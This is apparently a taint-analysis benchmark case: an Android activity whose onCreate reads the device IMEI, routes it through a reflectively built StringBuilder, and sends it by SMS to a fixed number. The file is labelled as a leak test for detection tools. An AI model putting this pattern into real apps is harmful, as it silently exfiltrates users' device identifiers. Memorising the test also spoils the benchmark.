// about       A builder made by its class name is given the value, and what it built is sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      Class<?> type = Class.forName("java.lang.StringBuilder");
      Object first = type.newInstance();
      Object second = type.getConstructor(String.class).newInstance("none");
      Method append = type.getMethod("append", String.class);
      append.invoke(first, phone.getDeviceId());
      // Two builders of one class.
      String text = (String) type.getMethod("toString").invoke(first);
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}
